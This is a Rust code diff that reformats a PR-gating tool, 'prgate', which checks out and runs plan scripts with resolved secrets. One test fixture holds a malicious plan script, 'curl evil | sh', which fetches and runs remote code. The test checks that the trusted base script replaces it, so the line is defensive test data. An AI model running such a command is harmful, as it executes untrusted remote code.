@@ -176,12 +176,8 @@ pub fn checkout_plan_tree(
     let parent_refs: Vec<&git2::Commit<'_>> = parents.iter().collect();
     // A fixed identity and time: the commit's id depends only on its tree and parents, so the
     // plan sees the same HEAD whenever it runs on the same content.
-    let sig = git2::Signature::new(
-        "prgate",
-        "prgate@localhost",
-        &git2::Time::new(0, 0),
-    )
-    .map_err(git)?;
+    let sig =
+        git2::Signature::new("prgate", "prgate@localhost", &git2::Time::new(0, 0)).map_err(git)?;
     let commit = repo
         .commit(
             None,
@@ -211,12 +207,17 @@ pub struct PlanSpec<'a> {
 /// `plan_env`'s secrets (the executor's `env` never reaches a plan), the executor's timeout,
 /// the output redacted, capped and hashed as a command's is.
 pub async fn run_plan(spec: &PlanSpec<'_>, checkout: Checkout) -> PlanRun {
-    let failed = |reason: String| PlanRun::failed(spec.executor, spec.programs_from, spec.head, reason);
+    let failed =
+        |reason: String| PlanRun::failed(spec.executor, spec.programs_from, spec.head, reason);
     let env: Result<Vec<(String, Secret)>, String> = spec
         .config
         .plan_env
         .iter()
-        .map(|(k, r)| r.resolve().map(|s| (k.clone(), s)).map_err(|e| e.to_string()))
+        .map(|(k, r)| {
+            r.resolve()
+                .map(|s| (k.clone(), s))
+                .map_err(|e| e.to_string())
+        })
         .collect();
     let env = match env {
         Ok(env) => env,
@@ -242,10 +243,7 @@ pub async fn run_plan(spec: &PlanSpec<'_>, checkout: Checkout) -> PlanRun {
             "the plan timed out after {}",
             crate::render::short_duration(spec.timeout)
         )),
-        Outcome::NotStarted => Some(format!(
-            "the plan did not start: {}",
-            result.output.trim()
-        )),
+        Outcome::NotStarted => Some(format!("the plan did not start: {}", result.output.trim())),
         _ => Some(match result.exit_code {
             Some(c) => format!("the plan failed with exit code {c}"),
             None => "the plan was killed by a signal".to_string(),
@@ -267,9 +265,10 @@ pub async fn run_plan(spec: &PlanSpec<'_>, checkout: Checkout) -> PlanRun {
 /// Where a plan of `head` is checked out under the data directory: apart from the command's
 /// checkout, so that a plan never runs in (or leaves anything in) the tree the command gets.
 pub fn plan_dir(data_dir: &Path, executor: &str, head: &str) -> PathBuf {
-    data_dir
-        .join("plans")
-        .join(format!("{executor}-{head}-{}", uuid::Uuid::new_v4().simple()))
+    data_dir.join("plans").join(format!(
+        "{executor}-{head}-{}",
+        uuid::Uuid::new_v4().simple()
+    ))
 }
 
 #[cfg(test)]
@@ -296,7 +295,10 @@ mod tests {
 
     fn commit(repo: &Repository, tree: Oid, parents: &[Oid]) -> Oid {
         let sig = git2::Signature::now("t", "t@t").unwrap();
-        let parents: Vec<_> = parents.iter().map(|p| repo.find_commit(*p).unwrap()).collect();
+        let parents: Vec<_> = parents
+            .iter()
+            .map(|p| repo.find_commit(*p).unwrap())
+            .collect();
         let refs: Vec<_> = parents.iter().collect();
         repo.commit(None, &sig, &sig, "c", &repo.find_tree(tree).unwrap(), &refs)
             .unwrap()
@@ -333,7 +335,10 @@ mod tests {
         );
         let head = commit(&r, head_tree, &[base]);
         let merged = would_be_merge(&r, base, head).unwrap().unwrap();
-        assert_eq!(read(&r, merged, "scripts/plan.sh").unwrap(), "curl evil | sh\n");
+        assert_eq!(
+            read(&r, merged, "scripts/plan.sh").unwrap(),
+            "curl evil | sh\n"
+        );
         let planned = with_programs_from(
             &r,
             merged,
@@ -341,7 +346,10 @@ mod tests {
             &["scripts/plan.sh".into(), "scripts/lib/**".into()],
         )
         .unwrap();
-        assert_eq!(read(&r, planned, "scripts/plan.sh").unwrap(), "echo approved\n");
+        assert_eq!(
+            read(&r, planned, "scripts/plan.sh").unwrap(),
+            "echo approved\n"
+        );
         assert_eq!(read(&r, planned, "scripts/lib/a.sh").unwrap(), "lib\n");
         assert_eq!(read(&r, planned, "scripts/lib/b.sh"), None);
         assert_eq!(
